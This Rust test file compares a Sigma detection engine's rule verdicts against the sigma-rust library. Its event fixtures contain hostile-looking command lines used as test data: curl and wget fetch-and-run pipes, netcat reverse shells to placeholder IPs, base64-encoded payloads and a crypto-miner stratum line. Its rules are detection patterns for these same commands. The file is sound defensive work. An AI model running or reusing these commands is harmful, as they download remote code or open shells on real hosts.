//! Differential test against `sigma-rust` 0.7, an independent Sigma matcher:
//! every rule × event verdict must agree, except the documented differences
//! (listed in `EXPECTED_DIFFERENCES` with the reason, and in docs/rules.md).

use sightline_detect::RuleSet;
use sightline_event::{Event, EventId, Timestamp, Value};

/// (field, value) lists; `message` and `event.original` get the same text.
fn events() -> Vec<Vec<(&'static str, Value)>> {
    let s = |x: &str| Value::Str(x.to_owned());
    vec![
        vec![
            (
                "process.command_line",
                s("bash -c 'curl -s http://x/x.sh | sh'"),
            ),
            ("user.name", s("root")),
            ("source.ip", s("10.0.0.5")),
            ("http.response.status_code", Value::Int(200)),
            ("url.path", s("/api/jobs/")),
        ],
        vec![
            ("process.command_line", s("python train.py --epochs 3")),
            ("user.name", s("Alice")),
            ("source.ip", s("192.168.1.20")),
            ("http.response.status_code", Value::Int(401)),
            ("url.path", s("/api/jobs/1")),
        ],
        vec![
            (
                "process.command_line",
                s("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="),
            ),
            ("user.name", s("bob")),
            ("source.ip", s("fd00::1")),
            ("http.response.status_code", Value::Int(403)),
        ],
        vec![
            (
                "process.command_line",
                s("echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | sh"),
            ),
            ("user.name", s("ROOT")),
        ],
        vec![
            ("process.command_line", s("NC -E /bin/sh 1.2.3.4 4444")),
            ("source.ip", s("1.2.3.4")),
            ("http.response.status_code", Value::Int(500)),
            ("url.path", s("/API/JOBS/")),
        ],
        vec![
            ("message", s("XMRig miner started stratum+tcp://pool:3333")),
            ("user.name", s("svc_ray")),
        ],
        vec![
            (
                "process.command_line",
                s(r"C:\Windows\System32\cmd.exe /c whoami"),
            ),
            ("url.path", s(r"C:\Temp\a*b")),
        ],
        vec![
            ("process.command_line", s("wget http://x -O- | bash")),
            ("user.name", s("")),
            ("url.path", s(r"C:\Temp\axb")),
        ],
        vec![("message", s("hello"))],
        vec![
            ("process.command_line", s("nc -e /bin/sh 5.6.7.8 9")),
            ("user.name", s("root")),
            ("source.ip", s("10.1.2.3")),
        ],
        vec![
            ("process.command_line", s("p \u{2013}enc x")),
            ("message", s("user root logged in")),
        ],
        vec![
            ("process.command_line", s("python ?rain.py")),
            ("source.ip", s("not-an-ip")),
        ],
    ]
}

/// Detection bodies (indented for `detection:`), named for the report.
const RULES: &[(&str, &str)] = &[
    (
        "contains",
        "  sel:\n    process.command_line|contains: curl\n  condition: sel",
    ),
    (
        "contains_all",
        "  sel:\n    process.command_line|contains|all: ['curl', '| sh']\n  condition: sel",
    ),
    (
        "startswith",
        "  sel:\n    process.command_line|startswith: bash\n  condition: sel",
    ),
    (
        "endswith",
        "  sel:\n    process.command_line|endswith: '| sh'\n  condition: sel",
    ),
    (
        "wildcard_star",
        "  sel:\n    process.command_line: '*sh*'\n  condition: sel",
    ),
    (
        "wildcard_prefix",
        "  sel:\n    process.command_line: 'nc -e *'\n  condition: sel",
    ),
    (
        "wildcard_one",
        "  sel:\n    process.command_line: 'python ?rain.py*'\n  condition: sel",
    ),
    (
        "escaped_question",
        "  sel:\n    process.command_line: 'python \\?rain.py'\n  condition: sel",
    ),
    ("plain", "  sel:\n    user.name: root\n  condition: sel"),
    (
        "plain_upper",
        "  sel:\n    user.name: ROOT\n  condition: sel",
    ),
    (
        "cased",
        "  sel:\n    user.name|cased: root\n  condition: sel",
    ),
    ("empty", "  sel:\n    user.name: ''\n  condition: sel"),
    ("null", "  sel:\n    user.name: null\n  condition: sel"),
    (
        "exists",
        "  sel:\n    user.name|exists: true\n  condition: sel",
    ),
    (
        "not_exists",
        "  sel:\n    user.name|exists: false\n  condition: sel",
    ),
    (
        "cidr4",
        "  sel:\n    source.ip|cidr: 10.0.0.0/8\n  condition: sel",
    ),
    (
        "cidr6",
        "  sel:\n    source.ip|cidr: fd00::/8\n  condition: sel",
    ),
    (
        "number",
        "  sel:\n    http.response.status_code: 401\n  condition: sel",
    ),
    (
        "number_list",
        "  sel:\n    http.response.status_code: [401, 403]\n  condition: sel",
    ),
    (
        "gte",
        "  sel:\n    http.response.status_code|gte: 401\n  condition: sel",
    ),
    (
        "lt",
        "  sel:\n    http.response.status_code|lt: 401\n  condition: sel",
    ),
    (
        "re",
        "  sel:\n    process.command_line|re: 'nc(at)? -e'\n  condition: sel",
    ),
    (
        "re_i",
        "  sel:\n    process.command_line|re|i: 'nc -e'\n  condition: sel",
    ),
    (
        "base64offset",
        "  sel:\n    process.command_line|base64offset|contains: 'curl http'\n  condition: sel",
    ),
    (
        "wide_base64offset",
        "  sel:\n    process.command_line|wide|base64offset|contains: 'IEX'\n  condition: sel",
    ),
    (
        "windash",
        "  sel:\n    process.command_line|windash|contains: ' -enc '\n  condition: sel",
    ),
    (
        "path_prefix",
        "  sel:\n    url.path|startswith: /api/jobs\n  condition: sel",
    ),
    (
        "escaped_star",
        "  sel:\n    url.path: 'C:\\Temp\\a\\*b'\n  condition: sel",
    ),
    (
        "keyword_message",
        "  kw:\n    - xmrig\n    - 'stratum+tcp'\n  condition: kw",
    ),
    ("keyword_everywhere", "  kw:\n    - root\n  condition: kw"),
    (
        "and_not",
        "  sel:\n    process.command_line|contains: sh\n  filter:\n    user.name: root\n  condition: sel and not filter",
    ),
    (
        "one_of",
        "  sel_a:\n    user.name: bob\n  sel_b:\n    source.ip|cidr: 1.0.0.0/8\n  condition: 1 of sel_*",
    ),
    (
        "all_of_them",
        "  sel_a:\n    process.command_line|contains: nc\n  sel_b:\n    source.ip|cidr: 10.0.0.0/8\n  condition: all of them",
    ),
    (
        "list_of_maps",
        "  sel:\n    - user.name: alice\n    - http.response.status_code: 500\n  condition: sel",
    ),
    (
        "precedence",
        "  a:\n    user.name: root\n  b:\n    source.ip: 10.0.0.5\n  c:\n    url.path|exists: true\n  condition: a or b and not c",
    ),
];

/// Differences we keep, with why. (rule, event index)
const EXPECTED_DIFFERENCES: &[(&str, usize, &str)] = &[
    // Keywords: we search `message` and `event.original`; sigma-rust searches every field value.
    ("keyword_everywhere", 0, "keyword found only in user.name"),
    ("keyword_everywhere", 3, "keyword found only in user.name"),
    ("keyword_everywhere", 9, "keyword found only in user.name"),
    // Keywords: we search for the value anywhere in the text (contains); sigma-rust
    // compares keywords with whole field values unless the keyword has wildcards.
    ("keyword_message", 5, "keyword inside a longer message"),
    ("keyword_everywhere", 10, "keyword inside a longer message"),
    // `null`: we (like pySigma's SQL `IS NULL`) match an absent field; sigma-rust only
    // a field present with a null value.
    ("null", 4, "user.name absent"),
    ("null", 6, "user.name absent"),
    ("null", 8, "user.name absent"),
    ("null", 10, "user.name absent"),
    ("null", 11, "user.name absent"),
];

/// Rules sigma-rust 0.7 rejects (it has no `re` sub-modifiers `i`/`m`/`s`).
const ORACLE_UNSUPPORTED: &[&str] = &["re_i"];

fn rule_yaml(body: &str) -> String {
    format!("title: oracle\nlogsource:\n  product: test\ndetection:\n{body}\n")
}

fn our_event(fields: &[(&'static str, Value)]) -> Event {
    let ts: Timestamp = "2026-11-22T12:00:00Z".parse().unwrap();
    let mut e = Event::new(EventId::derive("o", 0, b""), ts, "test", "test", "");
    for (k, v) in fields {
        if *k == "message" {
            e.message = v.to_string();
            e.original = v.to_string();
        } else {
            e.set(k, v.clone());
        }
    }
    e
}

fn oracle_event(fields: &[(&'static str, Value)]) -> sigma_rust::Event {
    let mut e = sigma_rust::Event::new();
    let mut has_message = false;
    for (k, v) in fields {
        match v {
            Value::Str(s) => e.insert(*k, s.as_str()),
            Value::Int(i) => e.insert(*k, *i),
            other => e.insert(*k, other.to_string().as_str()),
        }
        if *k == "message" {
            e.insert("event.original", v.to_string().as_str());
            has_message = true;
        }
    }
    if !has_message {
        // Our events always have these two (possibly empty) members.
        e.insert("message", "");
        e.insert("event.original", "");
    }
    e
}

#[test]
fn verdicts_agree_with_sigma_rust() {
    let events = events();
    let mut differences = Vec::new();
    let mut positives = 0;
    let mut unsupported = Vec::new();
    for (name, body) in RULES {
        let yaml = rule_yaml(body);
        let ours = RuleSet::from_texts([("oracle.yml", yaml.as_str())])
            .unwrap_or_else(|e| panic!("{name}: {e:?}"));
        let theirs = match sigma_rust::rule_from_yaml(&yaml) {
            Ok(r) => r,
            Err(e) => {
                unsupported.push((name.to_string(), e.to_string()));
                continue;
            }
        };
        for (i, fields) in events.iter().enumerate() {
            let a = !ours.matching_rules(&our_event(fields)).is_empty();
            let b = sigma_rust::check_rule(&theirs, &oracle_event(fields));
            positives += usize::from(a);
            if a != b {
                differences.push((name.to_string(), i, a, b));
            }
        }
    }
    let unexpected: Vec<_> = differences
        .iter()
        .filter(|(n, i, _, _)| {
            !EXPECTED_DIFFERENCES
                .iter()
                .any(|(en, ei, _)| en == n && ei == i)
        })
        .collect();
    assert!(
        unexpected.is_empty(),
        "unexpected differences (rule, event, ours, sigma-rust): {unexpected:?}"
    );
    let missing: Vec<_> = EXPECTED_DIFFERENCES
        .iter()
        .filter(|(en, ei, _)| !differences.iter().any(|(n, i, _, _)| n == en && i == ei))
        .collect();
    assert!(
        missing.is_empty(),
        "documented differences that no longer occur: {missing:?}"
    );
    let names: Vec<&str> = unsupported.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ORACLE_UNSUPPORTED, "{unsupported:?}");
    assert!(
        positives > 40,
        "the corpus must exercise matches, got {positives}"
    );
}
